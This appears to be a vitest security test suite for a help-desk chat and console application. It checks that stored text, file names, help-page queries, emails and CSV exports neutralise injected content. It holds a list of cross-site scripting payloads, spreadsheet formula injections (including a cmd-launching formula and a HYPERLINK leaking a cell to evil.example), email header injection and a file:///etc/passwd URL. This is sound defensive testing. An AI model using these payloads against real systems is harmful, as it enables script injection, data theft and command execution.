import { readdirSync, readFileSync } from 'node:fs'
import { join } from 'node:path'
import { afterAll, afterEach, beforeAll, describe, expect, test } from 'vitest'
import { renderMarkdown } from '../../src/knowledge/render.ts'
import { dangers } from './dangers.ts'
import { type Answered, type Chat, expectSafe, expectWell, type House, openHouse } from './house.ts'

let house: House
let talk: Chat
beforeAll(async () => {
  house = await openHouse()
  talk = await house.chat()
}, 420_000)
afterAll(() => house?.close())
afterEach(() => expectWell(house))

/** Texts that mean something else to whoever does not show them as texts. */
const payloads: [what: string, text: string][] = [
  ['a script', '<script>alert(1)</script>'],
  ['a script in capitals', '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>'],
  ['a script of another host', '<script src=//evil.example/x.js></script>'],
  ['an image that fails', '<img src=x onerror=alert(1)>'],
  ['a drawing', '<svg/onload=alert(1)>'],
  ['a drawing with a link', '<svg><a xlink:href="javascript:alert(1)"><text y="9">x</text></a></svg>'],
  ['a frame', '<iframe srcdoc="<script>alert(1)</script>"></iframe>'],
  ['an end of an attribute', '" onmouseover="alert(1)" x="'],
  ['an end of the other attribute', "' autofocus onfocus='alert(1)"],
  ['an end of a text', '</textarea></title></style></script><script>alert(1)</script>'],
  ['an end of a comment', '--><img src=x onerror=alert(1)><!--'],
  ['an end of JSON in a page', '</script><svg onload=alert(1)>{"@type":"x"}'],
  ['a formula of another namespace', '<math><mi//xlink:href="data:x,<script>alert(1)</script>">'],
  ['a form', '<form action=https://evil.example><button>Sign in</button></form>'],
  ['a page that goes on', '<meta http-equiv=refresh content="0;url=https://evil.example">'],
  ['a base', '<base href=https://evil.example/>'],
  ['a style', '<style>@import "https://evil.example/x.css"</style>'],
  ['entities', '&lt;script&gt;alert(1)&lt;/script&gt; &#x3c;img src=x onerror=alert(1)&#x3e;'],
  ['a link in Markdown', '[click](javascript:alert(1)) [here](JaVaScRiPt:alert(1)) [x](vbscript:x)'],
  ['a page in a link', '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)'],
  ['a picture in Markdown', '![x](https://evil.example/p.png) ![y](javascript:alert(1))'],
  ['a link with a title that ends it', '[x](https://evil.example "a" onclick="alert(1))'],
  ['another alphabet', '＜script＞alert(1)＜/script＞'],
  ['seven bits', '+ADw-script+AD4-alert(1)+ADw-/script+AD4-'],
  ['hidden letters', '<scr\u0000ipt>alert(1)</scr\u200bipt>'],
  ['writing turned round', '\u202e<script>alert(1)</script>\u202c'],
  // biome-ignore lint/suspicious/noTemplateCurlyInString: that is what an attacker writes
  ['a template', '{{constructor.constructor("alert(1)")()}} ${alert(1)} <%= alert(1) %>'],
  ['a formula', '=HYPERLINK("https://evil.example?"&A1,"x")'],
  ['a header', 'x\r\nBcc: everybody@evil.example\r\nContent-Type: text/html\r\n\r\n<script>alert(1)</script>'],
  ['a terminal', '\u001b]0;x\u0007\u001b[2J\u001b[31mred'],
]

/** What does nothing where HTML is read, wherever it stands. */
const harmlessAsHtml = [
  'entities',
  'a link in Markdown',
  'a page in a link',
  'a picture in Markdown',
  'another alphabet',
  'seven bits',
  'hidden letters',
  'a template',
  'a formula',
  'a terminal',
]

test.each(payloads)('%s would be noticed on a page that shows it as it is', (what, text) => {
  const pages = [`<p>${text}</p>`, `<input value="${text}">`, `<input value='${text}'>`]
  expect(pages.some((page) => dangers(page).length > 0)).toBe(!harmlessAsHtml.includes(what))
})

const asVisitor = () => ({ authorization: `Bearer ${talk.bearer}` })

/** JSON that no browser takes for anything else. */
function expectData(answer: Answered): void {
  expectSafe(answer)
  if (answer.status === 204) return
  expect(answer.headers['content-type']).toMatch(/^application\/json/)
  expect(answer.headers['x-content-type-options']).toBe('nosniff')
}

type Line = {
  id: string
  from: { role: string; name?: string }
  text?: string
  textFormat?: string
  attachments?: { name?: string; contentType: string; content?: object; contentUrl?: string }[]
}

async function linesOf(chat: Chat): Promise<Line[]> {
  const answer = await house.send({
    path: `${chat.own}/activities`,
    headers: { authorization: `Bearer ${chat.bearer}` },
  })
  expectData(answer)
  return JSON.parse(answer.text).activities
}

/** A character 0 is none in the database, and stands as the sign for what cannot be read. */
const asKept = (text: string) => text.replaceAll('\0', '\uFFFD')
const isOfVisitor = ({ from }: { from: { role: string } }) => from.role === 'visitor'

/** What the desk says itself may quote somebody, but never so that their words become links or pictures of the desk. */
function expectQuoted(lines: Line[]): void {
  for (const { from, text, textFormat, attachments = [] } of lines) {
    if (from.role === 'bot' && textFormat === 'markdown') expect(dangers(renderMarkdown(text ?? ''))).toEqual([])
    for (const { content } of attachments) {
      const urls = [...JSON.stringify(content ?? {}).matchAll(/"url":"([^"]*)"/g)].map(([, url = '']) => url)
      for (const url of urls) expect(url).toMatch(/^(https?|mailto|tel):/)
    }
  }
}

describe('a text of a stranger', () => {
  test.each(payloads)('is a text in the chat: %s', async (_what, text) => {
    const kept = asKept(text)
    const sent = await talk.says(text)
    expect(sent.status).toBe(200)
    const { id } = JSON.parse(sent.text)
    const lines = await linesOf(talk)
    expect(lines.find((line) => line.id === id)).toMatchObject({
      from: { role: 'user' },
      text: kept,
      textFormat: 'plain',
    })
    expectQuoted(lines)
  })

  test.each(payloads)('is a text in the console: %s', async (_what, text) => {
    const path = `/api/conversations/${talk.conversation}`
    const done = async (status: number, method: string, to: string, body?: object) => {
      const answer = await house.console(method, to, body)
      expectData(answer)
      expect(`${method} ${to}: ${answer.status}`).toBe(`${method} ${to}: ${status}`)
      return answer.text && JSON.parse(answer.text)
    }
    const kept = asKept(text)
    await talk.says(text)
    const { messages: before } = await done(200, 'GET', path)
    expect(before.findLast(isOfVisitor)).toMatchObject({ text: kept, format: 'plain' })
    const after = before.at(-1).seq
    const id = { clientId: crypto.randomUUID() }
    await done(201, 'POST', `${path}/notes`, { text, ...id })
    await done(200, 'PUT', `${path}/agent`, {})
    const said = await done(201, 'POST', `${path}/messages`, { text, ...id })
    expect(said).toMatchObject({ text: kept, format: 'plain', from: { role: 'agent' } })
    await done(200, 'DELETE', `${path}/agent`, {})
    const { messages } = await done(200, 'GET', `${path}/messages?after=${after}`)
    expect(messages).toContainEqual(said)
    const { agentNotes } = await done(200, 'GET', path)
    expect(agentNotes.at(-1)).toMatchObject({ text: kept })
    const lines = await linesOf(talk)
    expect(lines.find((line) => line.id === said.id)).toMatchObject({ text: kept, textFormat: 'plain' })
    expectQuoted(lines.filter(({ from }) => from.role === 'bot' && !from.name))
    const reply = { title: text.slice(0, 60), locale: 'en', text, isShared: true }
    // what stands for nothing the desk knows is refused, before anybody sends it
    if (text.includes('{{')) return void (await done(422, 'POST', '/api/replies', reply))
    const saved = await done(201, 'POST', '/api/replies', reply)
    expect(saved).toMatchObject({ ...reply, title: asKept(reply.title).trim(), text: kept })
    expect((await done(200, 'GET', '/api/replies')).replies).toContainEqual(saved)
  })

  test.each(payloads)('is a text on the help pages: %s', async (_what, text) => {
    const asked = encodeURIComponent(text.toWellFormed())
    for (const [path, type] of [
      [`/help/search?q=${asked}`, 'html'],
      [`/help/search?q=print&lang=${asked}`, 'html'],
      [`/help/suggest?q=${asked}`, 'json'],
      [`/help/${asked}`, 'html'],
      [`/help/section/${asked}`, 'html'],
      [`/help/error-vc3?voted=${asked}&q=${asked}&lang=${asked}`, 'html'],
      [`/help?lang=${asked}`, 'html'],
      [`/help/codes?q=${asked}`, 'html'],
      [`/letters/digest?a=${asked}&s=${asked}&lang=${asked}`, 'html'],
      [`/dev/letters?letter=${asked}`, 'html'],
      [`/chat?site=${asked}&locale=${asked}`, 'html'],
      [`/console?link=${asked}`, 'html'],
      [`/console/sign-in?problem=${asked}&proven=${asked}`, 'html'],
    ] as const) {
      const answer = await house.send({
        path,
        headers: { referer: `https://x.example/${asked}`, 'accept-language': 'en' },
      })
      expectSafe(answer)
      expect(`${path} ${answer.headers['content-type']}`).toContain(`${type}; charset=utf-8`)
      if (type !== 'html') continue
      expect([path, dangers(answer.text)]).toEqual([path, []])
      expect(answer.headers['content-security-policy']).toMatch(/default-src 'none'.*script-src 'self'(;|$)/)
    }
  })

  test.each(payloads)('is a name of a file and nothing more: %s', async (_what, text) => {
    const form = new FormData()
    form.append('file', new File(['plain words'], `${text}.txt`, { type: 'text/html' }))
    form.append('file', new File(['<script>alert(1)</script>'], `${text}.html`, { type: 'text/html' }))
    const sent = await fetch(`${house.url}${talk.own}/upload`, { method: 'POST', headers: asVisitor(), body: form })
    if (/\p{Cc}/u.test(text.replace(/[\r\n]/g, ''))) return expect(sent.status).toBe(400) // no such header can be sent
    expect(sent.status).toBe(200)
    const files = (await linesOf(talk))
      .flatMap(({ attachments = [] }) => attachments)
      .filter(({ contentUrl }) => contentUrl)
    const newest = files.at(-1)
    expect(newest?.contentType).toBe('text/plain')
    expect(newest?.name).not.toMatch(/[<>"\p{Cc}\p{Cf}]/u)
    const { pathname } = new URL(newest?.contentUrl ?? '')
    const given = await house.send({ path: pathname })
    expect(given.headers['content-disposition']).toMatch(
      /^attachment; filename="[\w.-]+"; filename\*=UTF-8''[\w.%!~-]+$/,
    )
    expect(given.headers['content-security-policy']).toBe("default-src 'none'; sandbox")
    expect(given.headers['content-type']).toBe('text/plain; charset=utf-8')
  })
})

const reader = 'ingrid@meridian-press.example'

/** Somebody whom a website has signed for, and who opens a ticket with these words. */
async function opensTicket(words: string): Promise<Chat> {
  const json = { 'content-type': 'application/json' }
  const post = (path: string, body: object) =>
    house.send({ method: 'POST', path, headers: json, body: JSON.stringify(body) })
  const site = 'vitrium'
  const { token: identity } = JSON.parse((await post('/demo/identity', { site, email: reader })).text)
  const { token, conversationId } = JSON.parse((await post('/chat/token', { site, locale: 'en', identity })).text)
  const own = `/v3/directline/conversations/${conversationId}`
  const headers = { ...json, authorization: `Bearer ${token}` }
  const says = (text: string) =>
    house.send({ method: 'POST', path: `${own}/activities`, headers, body: JSON.stringify({ type: 'message', text }) })
  const chat = { conversation: conversationId, bearer: token, own, says }
  await says(`everything is down for all our users ${words}`)
  for (let tries = 0; tries < 4; tries++) {
    const newest = (await linesOf(chat)).map(({ text }) => text).at(-1)
    if (/number \d{4}/.test(newest ?? '')) break
    await says(/open already|looks like the same/.test(newest ?? '') ? 'No, a new one' : 'yes')
  }
  return chat
}

describe('a text in a letter', () => {
  // a few of them, because each is a whole ticket
  const chosen = payloads.filter(([what]) => /^(an image|an end of|a header|a link in|a picture|a form$)/.test(what))
  test.each(chosen)('is a text: %s', { timeout: 60_000 }, async (_what, text) => {
    const before = new Set((await house.app.letters()).map(({ id }) => id))
    const lines = await linesOf(await opensTicket(text))
    expectQuoted(lines)
    const number = lines.map((line) => /number (\d{4,})/.exec(line.text ?? '')?.[1]).findLast(Boolean) ?? 'none'
    const newest = async () => (await house.app.letters()).filter(({ id }) => !before.has(id))
    // the contact hears that the ticket is open, and an agent that it cannot wait
    for (const to of [reader, 'mia@vitrium.example']) {
      const ofIt = async () => (await newest()).find((letter) => letter.to === to && letter.text.includes(number))
      await expect.poll(async () => (await ofIt())?.text, { timeout: 30_000 }).toContain('everything is down')
    }
    const letters = await newest()
    for (const { id, subject, html } of letters) {
      expect(subject).not.toMatch(/[\r\n]/)
      expect(dangers(html)).toEqual([])
      const page = await house.send({ path: `/dev/mailbox/${id}` })
      expect(dangers(page.text)).toEqual([])
      expect(page.headers['content-security-policy']).toMatch(/^sandbox; default-src 'none'/)
    }
    expect(dangers((await house.send({ path: '/dev/mailbox' })).text)).toEqual([])
  })
})

describe('a text in a table to save', () => {
  const formulas = [
    '=1+1',
    '+1',
    '-1',
    '@SUM(A1)',
    '\t=1',
    "=cmd|' /C calc'!A0",
    '＝1+1',
    '＋1',
    '－1',
    '＠SUM(A1)',
    '=1;x',
    '"=1',
  ]

  test.each(formulas)('is no formula: %s', async (formula) => {
    const draft = {
      isNew: true,
      name: `${formula} Ltd`,
      package: 'standard',
      domains: [],
      aliases: [formula.trim() || 'x'],
      links: [],
      documentCodes: [],
      door: { email: null, url: null, phone: formula, hours: formula },
      invitations: [],
    }
    const id = `c${crypto.randomUUID().slice(0, 8)}`
    const saved = await house.console('PUT', `/api/admin/customers/${id}`, draft)
    expectData(saved)
    expect(JSON.parse(saved.text)).toEqual({ complaints: [] })
    for (const path of ['/api/admin/customers/export', '/api/admin/audit/export']) {
      const answer = await house.console('GET', path)
      expect(answer.status).toBe(200)
      expect(answer.headers['content-type']).toMatch(/^text\/csv/)
      expect(answer.headers['content-disposition']).toMatch(/^attachment/)
      expect(cellsOf(answer.text).some((cell) => cell.includes(id))).toBe(true)
      expect(cellsOf(answer.text).filter((cell) => /^[=+\-@\t\r\n＝＋－＠]/.test(cell))).toEqual([])
    }
  })

  test.each([
    'javascript:alert(1)',
    'data:text/html,x',
    'file:///etc/passwd',
    'ftp://x.example',
    '//evil.example',
    'https://',
    ' javascript:x',
  ])('is no address of a customer’s door: %s', async (url) => {
    const draft = {
      ...{ isNew: true, name: 'Door', package: 'standard', domains: [], aliases: [], links: [], documentCodes: [] },
      door: { email: null, url, phone: null, hours: null },
      invitations: [],
    }
    const answer = await house.console('PUT', '/api/admin/customers/door-of-a-stranger', draft)
    expectData(answer)
    expect(JSON.parse(answer.text).complaints).toContainEqual(expect.objectContaining({ field: 'doorUrl' }))
  })
})

describe('a text in what is exported of a person, or looked for in the access log', () => {
  test.each(payloads)('is data: %s', async (_what, text) => {
    const email = `a${crypto.randomUUID().slice(0, 8)}@x.example`
    const said = await talk.says(`${text} ${email}`)
    expectData(await house.console('POST', '/api/admin/people/find', { email: `${text.slice(0, 200)}@x.example` }))
    const saved = await house.console('POST', '/api/admin/people/exports', { email })
    expectSafe(saved)
    expect(saved.status).toBe(200)
    expect(saved.headers['content-type']).toBe('application/json; charset=utf-8')
    expect(saved.headers['content-disposition']).toBe('attachment; filename="person.json"')
    expect(saved.headers['x-content-type-options']).toBe('nosniff')
    const { address, mentions } = JSON.parse(saved.text)
    expect([address, mentions.length > 0]).toEqual([email, said.status === 200])
    const asked = encodeURIComponent(text.toWellFormed().slice(0, 100))
    expectData(await house.console('GET', `/api/admin/access?about=${asked}`))
    expectData(await house.console('GET', `/api/admin/access?agent=${asked}`))
    const proof = await house.console('POST', '/api/session/proof', { code: text.slice(0, 20) })
    expectSafe(proof)
    expect([400, 401, 422, 429]).toContain(proof.status)
  })
})

/** The cells of a table as a spreadsheet takes them. */
function cellsOf(csv: string): string[] {
  return [...csv.replace(/^\uFEFF/, '').matchAll(/("(?:[^"]|"")*"|[^,\r\n]*)(?:,|\r\n|$)/g)].map(([, cell = '']) =>
    cell.startsWith('"') ? cell.slice(1, -1).replaceAll('""', '"') : cell,
  )
}

test('no page of ours writes HTML from texts, or runs a text', () => {
  const folder = new URL('../../src/web/', import.meta.url).pathname
  const files = readdirSync(folder, { recursive: true, encoding: 'utf8' }).filter((name) => /\.(tsx?|js)$/.test(name))
  expect(files.length).toBeGreaterThan(50)
  const way =
    /dangerouslySetInnerHTML|\.(?:inner|outer)HTML\b|insertAdjacentHTML|document\.write|\beval\(|new Function\(|srcdoc/
  expect(files.filter((name) => way.test(readFileSync(join(folder, name), 'utf8')))).toEqual([])
})
